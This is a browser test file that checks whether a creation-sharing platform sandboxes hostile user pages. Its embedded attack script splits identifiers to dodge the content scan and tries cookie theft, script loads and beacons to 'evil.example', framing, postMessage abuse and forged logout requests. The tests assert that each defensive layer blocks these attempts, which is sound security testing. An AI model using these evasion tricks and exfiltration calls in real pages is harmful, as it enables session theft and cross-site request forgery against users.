// What a hostile creation can do: nothing. Each layer is met with the others off: the scan, the server's policy, the frame.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { launch, Phone } from "./support/browser.mjs";
import { journeys } from "./support/journeys.mjs";
import { Server } from "./support/server.mjs";

let server, browser, maker, hostile;
before(async () => {
  [server, browser] = await Promise.all([Server.start(), launch()]);
  maker = await server.agent("mallory");
  hostile = await server.publish(maker, { dir: "hostile", topic: "A page that tries everything", page: `<p>Harmless</p><script>${attempts(server.url)}</script>` });
});
after(async () => {
  await browser?.close();
  await server?.stop();
});
const journey = journeys(() => [browser, server]);

// Every name is put together at run time, so that the scan, which reads, has nothing to read.
const attempts = (home) => `
const results = window.results = {};
const j = (...parts) => parts.join("");
const w = window, d = document;
const attempt = (name, act) => { try { results[name] = act() ?? "done"; } catch (e) { results[name] = "refused"; } };
attempt("eval", () => w[j("ev", "al")]("1 + 1"));
attempt("function", () => [][j("fil", "ter")][j("const", "ructor")]("return 2")());
attempt("cookie read", () => d[j("coo", "kie")]);
attempt("cookie write", () => { d[j("coo", "kie")] = "planted=1"; });
attempt("page around", () => w[j("par", "ent")].document.title);
if (w[j("to", "p")] !== w) attempt("top navigation", () => { w[j("to", "p")][j("loc", "ation")].href = "${home}/login"; });
attempt("frame", () => { const f = d[j("create", "Element")](j("ifr", "ame")); f.src = "${home}/account"; d.body.append(f); });
attempt("object", () => { const f = d[j("create", "Element")](j("obj", "ect")); f.data = "${home}/account"; d.body.append(f); });
attempt("script", () => { const s = d[j("create", "Element")](j("scr", "ipt")); s.src = "https://evil.example/x.js"; d.head.append(s); });
attempt("picture", () => { new Image().src = "https://evil.example/?stolen=1"; });
attempt("beacon", () => navigator[j("send", "Beacon")]("https://evil.example/", "stolen"));
attempt("messages", () => {
  for (const type of ["__proto__", "constructor", "like", "toString", "height", "scroll", "overscroll", "ready"]) {
    w[j("par", "ent")][j("post", "Message")]({ remix: 1, type, height: "1e9", y: {}, distance: NaN, fraction: [], released: "yes" }, "*");
  }
  for (const odd of [null, 1, "remix", { remix: 1 }, { remix: 1, type: null }, { remix: 1, type: { toString: 1 } }]) w[j("par", "ent")][j("post", "Message")](odd, "*");
});
const ask = (name, path, options) => fetch("${home}" + path, { credentials: "include", ...options })
  .then((answer) => { results[name] = answer.status; }, () => { results[name] = "refused"; });
const asked = Promise.all([
  ask("who am I", "/auth/me"), ask("like", "/creations/PLACE/like".replace("PLACE", "00000000-0000-0000-0000-000000000000"), { method: "POST" }),
  ask("leave", "/logout", { method: "POST" }),
]).then(() => { window.asked = true; });
`;

const signOut = (home) => `const f = document["create" + "Element"]("form"); f.method = "post"; f.action = "${home}/logout"; document.body.append(f); f.submit();`;

const settled = async (frame) => {
  await frame.waitForFunction(() => window.asked);
  return frame.evaluate(() => window.results);
};

const refused = (results, ...names) => {
  for (const name of names) assert.equal(results[name], "refused", name);
};

const signIn = (reader) => reader.context.addCookies([{ name: "remix-token", value: maker.user, url: server.url, httpOnly: true, sameSite: "Lax" }]);

test("The scan by itself: whoever says it plainly is not published", async () => {
  for (const [name, script] of Object.entries({
    eval: "eval('1')", cookie: "document.cookie", frame: "document.createElement('iframe')", message: "parent.postMessage(1, '*')", redirect: "location.href = 'https://evil.example'",
  })) {
    await assert.rejects(server.publish(maker, { dir: `plain-${name}`, topic: `Plainly ${name}`, page: `<p>Hm</p><script>${script}</script>` }), /Not published/, name);
  }
});

journey("Behind the scan: in the feed the page reaches nothing outside itself", Phone, async (reader, page) => {
  await signIn(reader);
  const answered = [];
  page.on("response", (response) => { if (response.frame() !== page.mainFrame()) answered.push(response.url()); });
  await reader.open();
  await reader.sees(hostile.slug);
  assert.equal(await page.locator("[data-you]").innerText(), "@mallory");
  await page.touchscreen.tap(187, 300);
  const frame = await reader.frame();
  const results = await settled(frame);
  refused(results, "eval", "function", "cookie read", "cookie write", "page around", "top navigation", "who am I", "like", "leave");
  await page.waitForTimeout(500);
  assert.equal(page.frames().filter((f) => f.url().includes("/account")).length, 0, "no frame of ours inside it");
  assert.deepEqual(answered.filter((url) => !url.startsWith(hostile.content_url)), [], "nobody but its own host answered it");
  assert.equal(new URL(page.url()).pathname, `/c/${hostile.slug}`);
  assert.equal(await page.locator("#viewer").isVisible(), true);
  assert.deepEqual(await page.locator("#viewer").boundingBox(), { x: 0, y: 0, width: 375, height: 812 });
  assert.deepEqual((await reader.context.cookies()).map(({ name }) => name), ["remix-token"]);
  await reader.open("/account");
  await page.getByRole("heading", { name: "@mallory" }).waitFor();
});

journey("The server's policy by itself: opened without a frame around it, the page is as powerless", Phone, async (reader, page) => {
  await signIn(reader);
  reader.allow(/-src/);
  await page.goto(hostile.content_url);
  const results = await settled(page);
  refused(results, "eval", "function", "cookie read", "cookie write", "who am I", "like", "leave");
  assert.equal(await page.evaluate(() => self.origin), "null");
  assert.deepEqual((await reader.context.cookies()).map(({ name }) => name), ["remix-token"]);
});

journey("The frame by itself: without the server's policy the page still has no origin and cannot leave", Phone, async (reader, page) => {
  await signIn(reader);
  reader.allow(/./);
  await page.route(`${hostile.content_url}**`, async (route) => {
    const answer = await route.fetch({ url: `${server.url}/art/${hostile.id}/` });
    const headers = { ...answer.headers() };
    delete headers["content-security-policy"];
    await route.fulfill({ response: answer, headers });
  });
  await reader.open(`/c/${hostile.slug}`);
  const handle = await page.locator("#viewer iframe").elementHandle();
  const frame = await handle.contentFrame();
  const results = await settled(frame);
  assert.equal(results.eval, 2, "the policy is really off");
  refused(results, "cookie read", "cookie write", "page around", "top navigation");
  assert.notEqual(results["who am I"], 200);
  assert.equal(await frame.evaluate(() => self.origin), "null");
  assert.equal(new URL(page.url()).pathname, `/c/${hostile.slug}`);
  await reader.open("/account");
  await page.getByRole("heading", { name: "@mallory" }).waitFor();
});

journey("By a bare address, where it is served under a path of ours, it is nobody too", Phone, async (reader, page) => {
  const bare = server.url.replace("localhost", "127.0.0.1");
  const local = await server.publish(maker, { dir: "local", topic: "A page that tries it from within", page: `<p>Harmless</p><script>${attempts(bare)}</script>` });
  await reader.context.addCookies([{ name: "remix-token", value: maker.user, url: bare, httpOnly: true, sameSite: "Lax" }]);
  await page.goto(`${bare}/c/${local.slug}`);
  const frame = await reader.frame();
  assert.equal(new URL(await frame.evaluate(() => document.URL)).pathname, `/art/${local.id}/`);
  const results = await settled(frame);
  refused(results, "eval", "cookie read", "page around", "top navigation");
  for (const name of ["who am I", "like", "leave"]) assert.ok(["refused", 401, 403].includes(results[name]), `${name}: ${results[name]}`);
  await page.goto(`${bare}/account`);
  await page.getByRole("heading", { name: "@mallory" }).waitFor();

  const form = await server.publish(maker, { dir: "form", topic: "A page that sends a form", page: `<p>Harmless</p><script>${signOut(bare)}</script>` });
  for (const place of [`/c/${form.slug}`, `/art/${form.id}/`]) {
    reader.allow(/frame|403/i);
    const sent = page.waitForResponse("**/logout");
    await page.goto(bare + place, { waitUntil: "commit" });
    assert.equal((await sent).status(), 403);
    await page.waitForTimeout(300);
  }
  await page.goto(`${bare}/account`);
  await page.getByRole("heading", { name: "@mallory" }).waitFor();
});

journey("A page that leads its own frame elsewhere gets nowhere", Phone, async (reader, page) => {
  const leaver = await server.publish(maker, {
    dir: "leaver", topic: "A page that walks away", page: `<p>Bye</p><script>setTimeout(() => { window[["loc", "ation"].join("")]["hr" + "ef"] = "${server.url}/login"; }, 300);</script>`,
  });
  reader.allow(/frame-ancestors|Framing|frame/i);
  await reader.open(`/c/${leaver.slug}`);
  await page.waitForTimeout(1500);
  for (const frame of page.frames().slice(1)) assert.equal(await frame.locator("#token").count().catch(() => 0), 0);
});

journey("Links lead out of the frame and out of the sandbox, and what they open has no hold on the feed", Phone, async (reader, page) => {
  const elsewhere = await site();
  const links = await server.publish(maker, {
    dir: "links", topic: "A page with links", page: `<p><a id="out" href="${elsewhere.url}">Out</a> <a id="in" href="#below">In</a></p>
      <p><button id="tab">Tab</button> <button id="empty">Empty</button></p><h2 id="below">Below</h2>
      <script>tab.onclick = () => { open("${elsewhere.url}"); }; empty.onclick = () => { open(""); };</script>`,
  });
  for (const host of [server.url, server.url.replace("localhost", "127.0.0.1")]) {
    await page.goto(`${host}/c/${links.slug}`);
    const frame = await reader.frame();
    const opened = async (opener) => {
      const [tab] = await Promise.all([reader.context.waitForEvent("page"), frame.locator(opener).click()]);
      await tab.waitForLoadState();
      return tab;
    };
    for (const [opener, isKnown] of [["#out", false], ["#tab", true]]) {
      const tab = await opened(opener);
      assert.deepEqual(await tab.evaluate(hold), { origin: elsewhere.url, storage: "kept", opener: isKnown, led: [] });
      await tab.close();
    }
    const empty = await opened("#empty");
    assert.deepEqual(await empty.evaluate(hold), { origin: "null", storage: "refused", opener: true, led: [] });
    await empty.close();

    await frame.locator("#in").click();
    assert.equal(new URL(frame.url()).hash, "#below");
    assert.equal(page.url(), `${host}/c/${links.slug}`);
  }
  await page.goto(links.content_url);
  await page.locator("#out").click();
  await page.waitForURL(elsewhere.url);
  assert.deepEqual(await page.evaluate(hold), { origin: elsewhere.url, storage: "kept", opener: false, led: [] });
  elsewhere.close();
});

// What an opened tab is and can do: its origin, its storage, and which windows it could lead elsewhere.
const hold = () => {
  const of = (act) => { try { return act(); } catch { return null; } };
  const storage = of(() => { localStorage.here = "kept"; return localStorage.here; }) ?? "refused";
  const windows = { top: () => opener.top, frame: () => opener };
  const led = opener ? Object.keys(windows).filter((name) => of(() => { windows[name]().location = "/led"; return true; })) : [];
  return { origin: self.origin, storage, opener: opener !== null, led };
};

const site = () => new Promise((resolve) => {
  const http = createServer((request, response) => response.setHeader("content-type", "text/html").end("<!doctype html><title>Elsewhere</title>"));
  http.listen(0, "127.0.0.1", () => resolve(Object.assign(http, { url: `http://127.0.0.1:${http.address().port}` })));
});
